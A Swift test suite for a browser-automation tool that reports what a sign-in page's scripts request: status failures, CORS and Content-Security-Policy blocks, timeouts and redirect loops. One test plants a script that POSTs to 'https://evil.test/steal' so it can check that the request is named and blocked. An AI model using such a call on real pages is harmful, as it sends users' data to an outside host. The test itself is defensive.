import BrowserEngine
import Encodings
import HostedDialect
import JourneyClient
import JourneyModel
import Testing

/// What the scripts of a page request: what is waited for, and what is said of it.
@Suite(
  .serialized,
  .enabled(if: ScriptedSite.programs != nil, "no Chromium and chromedriver on this machine: apt-get install chromium chromium-driver"))
struct ScriptRequestsTests {
  private typealias Site = ScriptedSite

  /// A page whose form a script sends: `act` is done with what was typed, and `say` shows a message.
  private static func page(_ act: String) -> HTTPResponseMessage {
    Site.page(
      """
      <h1>Sign in</h1><form id=f method=post><input name=user><input name=pass type=password><button name=go>Sign in</button></form>
      <p id=m></p><script>
      const say = text => { m.setAttribute('role', 'alert'); m.textContent = text };
      const post = url => fetch(url, {method: 'POST', body: 'x'});
      f.onsubmit = async event => { event.preventDefault(); \(act) };
      </script>
      """)
  }

  private static func status(_ status: Int) -> HTTPResponseMessage { HTTPResponseMessage(status: status) }

  private func send(_ driver: inout HostedDriver) async throws -> Turn {
    _ = try await driver.perform(.start(StartParameters()))
    return try await driver.perform(Site.submission("f", ["user": .text("jane"), "pass": .text("Jane-horse-11")]))
  }

  private func error(_ driver: inout HostedDriver) async -> DriverError? {
    do {
      let turn = try await send(&driver)
      Issue.record("\(turn.now)")
      return nil
    } catch {
      return error as? DriverError
    }
  }

  @Test(arguments: [
    "new EventSource('/open')", "new EventSource('/late')", "fetch('/open').catch(() => 0)",
    "(async () => { for (;;) { try { await fetch('/open') } catch {} } })()", "navigator.sendBeacon('/open', 'x')",
    "fetch('/late', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)", "new WebSocket('wss://id.acme.test/open')",
    "setInterval(() => fetch('/poll'), 100)", "setInterval(() => document.title = 'Now ' + Date.now(), 100)",
  ])
  func `what a page leaves open neither holds it up nor breaks it`(script: String) async throws {
    let form = "<h1>Start</h1><form method=post action=/next><input name=user><button>Go</button></form><script>\(script)</script>"
    let pages = [
      "GET /authorize": Site.page(form), "POST /next": Site.page("<h1>Done</h1><button>Sign out</button><script>\(script)</script>"),
    ]
    let (open, late) = (Set(["GET /open", "POST /open"]), Set(["GET /late", "POST /late"]))
    try await Site.walk(pages, open: open, late: late) { driver, _ in
      let first = try await driver.perform(.start(StartParameters()))
      #expect(try Site.screen(first).id.text == "/authorize#start")
      let turn = try await driver.perform(Site.submission("/next", ["user": .text("jane")]))
      #expect(try Site.screen(turn).id.text == "/next#done")
    }
  }

  @Test func `a request of a script that ends in status 500 breaks the case where the page shows nothing else`() async throws {
    let page = Self.page("await post('/api/login'); await fetch('/api/me')")
    try await Site.walk(["GET /authorize": page, "POST /api/login": Self.status(200), "GET /api/me": Self.status(500)]) { driver, _ in
      let error = await error(&driver)
      #expect(error?.kind == .status)
      #expect(error?.message == "GET https://id.acme.test/api/me, which a script of the page sent, was answered with status 500")
      #expect(error?.exchanges.last?.purpose.contains("script") == true)
    }
  }

  @Test func `it is the likely cause where the page shows a message`() async throws {
    let page = Self.page("const r = await post('/api/login'); if (!r.ok) say('Something went wrong')")
    try await Site.walk(["GET /authorize": page, "POST /api/login": Self.status(500)]) { driver, _ in
      let turn = try await send(&driver)
      #expect(try Site.screen(turn).messages.map(\.text.visible) == ["Something went wrong"])
      #expect(turn.likelyCause == "POST https://id.acme.test/api/login, which a script of the page sent, was answered with status 500")
    }
  }

  @Test(arguments: [400, 401, 403, 422]) func `a status that refuses what was sent is told, and is no cause`(status: Int) async throws {
    let page = Self.page("await post('/api/login')")
    try await Site.walk(["GET /authorize": page, "POST /api/login": Self.status(status)]) { driver, _ in
      let turn = try await send(&driver)
      let request = "POST https://id.acme.test/api/login, which a script of the page sent, was answered with status \(status)"
      #expect(turn.refusedRequest == request && turn.likelyCause == nil, "\(turn.likelyCause ?? "")")
    }
  }

  @Test func `a text of a script in an element that said nothing before is named`() async throws {
    let page = Self.page("await post('/api/login'); toast.textContent = 'Wrong name or password.'")
    var whole = page
    whole.body += Array("<div id=toast></div>".utf8)
    try await Site.walk(["GET /authorize": whole, "POST /api/login": Self.status(401)]) { driver, _ in
      let turn = try await send(&driver)
      #expect(turn.unmarkedText == UnmarkedText("Wrong name or password.", selector: "div#toast"))
    }
  }

  @Test(arguments: [true, false]) func `a request that is refused since the press is the likely cause, after a cookie that never came`(
    setsCookie: Bool
  ) async throws {
    let page = Self.page("await post('/api/login'); await fetch('/api/me?x=1')")
    var login = Self.status(200)
    if setsCookie { login.headers.append("Set-Cookie", "sid=Ab12Cd34Ef56Gh78Ab12Cd34; Path=/; Secure; HttpOnly; SameSite=Lax") }
    try await Site.walk(["GET /authorize": page, "POST /api/login": login, "GET /api/me": Self.status(401)]) { driver, _ in
      let turn = try await send(&driver)
      let request = "GET https://id.acme.test/api/me, which a script of the page sent, was answered with status 401"
      let cookie = "no response to the password, or after it, set a cookie, so the site may not know the browser any more: "
      #expect(turn.likelyCause == (setsCookie ? "" : cookie) + request)
      #expect(turn.exchanges.contains { $0.method == "GET" && $0.response?.status == 401 }, "\(turn.exchanges)")
    }
  }

  @Test func `what a page asks on its own before anything is pressed is no cause`() async throws {
    let page = Site.page("<h1>Sign in</h1><input name=user><button>Go</button><script>fetch('/api/me')</script>")
    try await Site.walk(["GET /authorize": page, "GET /api/me": Self.status(401)]) { driver, _ in
      let turn = try await driver.perform(.start(StartParameters()))
      #expect(turn.likelyCause == nil)
    }
  }

  @Test(arguments: [false, true], ["text/plain", "application/json"])
  func `what a script sends to another site is named`(saysSo: Bool, type: String) async throws {
    let request = "fetch('https://evil.test/steal?x=1', {method: 'POST', body: 'x', headers: {'Content-Type': '\(type)'}})"
    let page = Self.page("try { await \(request) } catch { \(saysSo ? "say('No')" : "") }")
    let sentence =
      "POST https://evil.test/steal, which a script of the page sent, was not let through: the tenant does not allow 'https://evil.test'"
    try await Site.walk(["GET /authorize": page]) { driver, _ in
      if saysSo {
        let turn = try await send(&driver)
        #expect(turn.likelyCause == sentence)
      } else {
        let error = await error(&driver)
        #expect(error?.kind == .forbidden && error?.message == sentence, "\(String(describing: error))")
      }
    }
  }

  @Test func `an answer that the rules for other origins keep from the script is named`() async throws {
    let page = Self.page("try { await fetch('https://api.acme.test/me') } catch { say('No') }")
    try await Site.walk(["GET /authorize": page, "GET /me": Self.status(200)], others: ["https://api.acme.test"]) { driver, _ in
      let cause = try await send(&driver).likelyCause
      #expect(
        cause
          == "GET https://api.acme.test/me, which a script of the page sent, was blocked by the browser: the answer has no 'Access-Control-Allow-Origin' (CORS)"
      )
    }
  }

  @Test func `a form that sends nothing is said to send nothing`() async throws {
    try await Site.walk(["GET /authorize": Self.page("")]) { driver, _ in
      let turn = try await send(&driver)
      #expect(
        turn.silentRefusal == "form 'f' was filled in and pressed, but nothing was sent, and no error or warning is known on the page")
      #expect(turn.likelyCause == "nothing was sent within 5 s")
    }
  }

  @Test func `a message that a script shows late comes without the page being loaded again`() async throws {
    let page = Self.page("await post('/api/login'); setTimeout(() => say('Wrong name'), 3000)")
    try await Site.walk(["GET /authorize": page, "POST /api/login": Self.status(401)]) { driver, site in
      var turn = try await send(&driver)
      #expect(turn.silentRefusal != nil)
      for _ in 1...100 where try Site.screen(turn).messages.isEmpty { turn = try await driver.perform(.refresh) }
      #expect(try Site.screen(turn).messages.map(\.text.visible) == ["Wrong name"])
      #expect(turn.refusedRequest != nil)
      #expect(site.requests.count { $0.url.path == "/authorize" } == 1)
      #expect(site.requests.count { $0.url.path == "/api/login" } == 1)
    }
  }

  @Test(arguments: [
    ("connect-src 'none'", "connect-src 'none'"),
    ("default-src 'none'; script-src 'unsafe-inline'", "default-src 'none'"),
  ])
  func `a request that the page's own policy stops is named with the policy`(policy: String, says: String) async throws {
    var page = Self.page("try { await fetch('/api/login', {method: 'POST', body: 'x'}) } catch { say('Something went wrong') }")
    page.headers.append("Content-Security-Policy", policy)
    try await Site.walk(["GET /authorize": page, "POST /api/login": Self.status(200)]) { driver, site in
      let cause = try await send(&driver).likelyCause
      #expect(
        cause
          == "a request to https://id.acme.test/api/login, which a script of the page sent, was blocked by the browser: the page's policy "
          + "'\(says)' does not allow it (Content-Security-Policy)")
      #expect(!site.requests.contains { $0.url.path == "/api/login" })
    }
  }

  @Test(arguments: [nil, "DENY"])
  func `the headers of a page count whose form a script draws`(frames: String?) async throws {
    var page = Site.page("<main id=m></main><script src=/app.js></script>")
    page.headers["X-Frame-Options"] = frames
    var script = HTTPResponseMessage(status: 200)
    script.headers.append("Content-Type", "text/javascript")
    script.body = Array(
      """
      m.innerHTML = '<h1>Sign in</h1><form><input name=user><input name=pass type=password><button>Sign in</button></form>'
      """.utf8)
    try await Site.walk(["GET /authorize": page, "GET /app.js": script]) { driver, _ in
      let turn = try await driver.perform(.start(StartParameters()))
      #expect(try Site.screen(turn).forms.count == 1)
      #expect(turn.findings.map(\.name) == (frames == nil ? ["headers"] : []), "\(turn.findings.map(\.problem))")
    }
  }

  @Test func `what a form sends after three seconds is waited for`() async throws {
    let act = "await new Promise(r => setTimeout(r, 3000)); const r = await post('/api/login'); if (!r.ok) say('Wrong')"
    try await Site.walk(["GET /authorize": Self.page(act), "POST /api/login": Self.status(401)]) { driver, _ in
      let turn = try await send(&driver)
      #expect(try Site.screen(turn).messages.map(\.text.visible) == ["Wrong"])
    }
  }

  @Test(arguments: ["GET", "POST"])
  func `a request of a script that is not answered is named`(method: String) async throws {
    let page = Self.page("await fetch('/api', {method: '\(method)'})")
    try await Site.walk(["GET /authorize": page], open: ["\(method) /api"]) { driver, _ in
      let error = await error(&driver)
      let start = "\(method) https://id.acme.test/api, which a script of the page sent: no complete response within "
      #expect(error?.kind == .timeout && error?.message.hasPrefix(start) == true, "\(String(describing: error))")
    }
  }

  @Test func `a page that does not come is named`() async throws {
    let form = "<form method=post action=/login><input name=user><button>Go</button></form>"
    try await Site.walk(["GET /authorize": Site.page(form)], open: ["POST /login"]) { driver, _ in
      _ = try await driver.perform(.start(StartParameters()))
      let error = await #expect(throws: DriverError.self) { try await driver.perform(Site.submission("/login", ["user": .text("jane")])) }
      #expect(error?.kind == .timeout)
      let start = "POST https://id.acme.test/login: no complete response within "
      #expect(error?.message.hasPrefix(start) == true, "\(String(describing: error))")
      #expect(error?.exchanges.last?.method == "POST")
    }
  }

  @Test(arguments: [false, true])
  func `a chain of redirects without an end is named as by plain HTTP`(isScripts: Bool) async throws {
    let loop = isScripts ? Site.page("<script>location.replace('/authorize?' + Math.random())</script>") : Site.redirect(to: "/authorize")
    try await Site.walk(["GET /authorize": loop]) { driver, _ in
      let error = await #expect(throws: DriverError.self) { try await driver.perform(.start(StartParameters())) }
      #expect(error?.kind == .redirectLoop, "\(String(describing: error))")
      #expect(error?.message.hasSuffix("was redirected more than 20 times") == true, "\(String(describing: error))")
    }
    guard !isScripts else { return }
    var plain = try Site.plainDriver(["GET /authorize": loop])
    let error = await #expect(throws: DriverError.self) { try await plain.perform(.start(StartParameters())) }
    #expect(error?.kind == .redirectLoop && error?.message.hasSuffix("was redirected more than 20 times") == true)
  }
}
